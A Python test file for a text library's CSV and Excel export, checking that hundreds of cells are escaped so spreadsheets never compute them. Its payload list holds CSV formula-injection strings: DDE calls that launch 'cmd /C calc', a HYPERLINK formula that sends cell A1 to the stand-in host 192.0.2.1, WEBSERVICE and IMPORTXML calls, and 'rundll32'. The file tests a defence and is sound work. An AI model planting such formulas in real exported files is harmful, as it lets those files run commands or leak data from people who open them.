"""Tables that leave: every cell is text to a spreadsheet, and reading them gives back what was written."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.promises.difficult import names

from yuimaru.core.text import tables_out

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    " =",
    "\u3000=",
    "\ufeff=",
    "'=",
    "''=",
]
PAYLOADS = [
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://192.0.2.1/\"&A1,\"見る\")", "1+1", "SUM(A1:A9)", "IMPORTXML(A1)", "WEBSERVICE(A1)",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "81599400110", "1", "", "2+5+cmd|' /C calc'!A0", "A1", "\"a\";=1", "\n=1", ",=1",
    ";=1", "\t=1", "'", "@SUM(1)", "0", "％", "<script>", "rundll32", "MSEXCEL|'x'!A", "ISERROR(1)", "10%", "1e9",
]  # fmt: skip
HARMLESS = ["山田", "0123", "1-2", "a=b", "", "'", "'山田", "2026-11-20", "0599-41-1234"]
letters = st.characters(codec="utf-8") | st.sampled_from("='\t\r\n_x05F＝\"")
text = st.text(letters, max_size=20)
slowly = settings(
    suppress_health_check=[HealthCheck.too_slow], deadline=None
)  # others may be using the machine


def cases() -> list[str]:
    return [start + payload for start in STARTS for payload in PAYLOADS]


def test_there_are_five_hundred_formulas() -> None:
    assert len(set(cases())) >= 500


def test_no_cell_of_a_csv_is_computed_names_of_columns_neither() -> None:
    table = [[cell, cell] for cell in cases()]
    content = tables_out.to_csv(table[0], table[1:])
    assert content.startswith(b"\xef\xbb\xbf")
    for cell in re.findall(r'(?:^|,|\r\n)"((?:[^"]|"")*)"', content.decode("utf-8-sig")):
        assert not re.match(r"[\s\ufeff]*[=+\-@|%＝＋－−＠]", cell)
        assert not cell.startswith(("\t", "\r", "\n"))
    assert tables_out.from_csv(content) == table


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_harmless_stays(cell: str) -> None:
    assert tables_out.guarded(cell) == cell


@slowly
@given(st.lists(st.lists(text, min_size=2, max_size=2), min_size=1, max_size=5))
def test_csv_gives_back_what_was_written(table: list[list[str]]) -> None:
    written = [[cell.replace("\x00", "") for cell in row] for row in table]
    assert tables_out.from_csv(tables_out.to_csv(written[0], written[1:])) == written


@slowly
@given(text)
def test_the_escape_of_workbooks_is_reversible(cell: str) -> None:
    assert tables_out.from_workbook(tables_out.in_workbook(cell)) == cell


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    table = [[cell] for cell in cases() + names()]
    book = openpyxl.load_workbook(io.BytesIO(tables_out.to_xlsx(["=1"], table, sheet="表")))
    cells = [row[0] for row in book["表"].iter_rows()]
    assert len(cells) == len(table) + 1
    assert not [
        cell for cell in cells if cell.data_type not in ("s", "n") or (cell.value and cell.data_type == "n")
    ]


def test_a_cell_too_long_for_a_workbook_is_refused() -> None:
    with pytest.raises(tables_out.TooLong):
        tables_out.to_xlsx(["a"], [["x" * 32_768]], sheet="表")
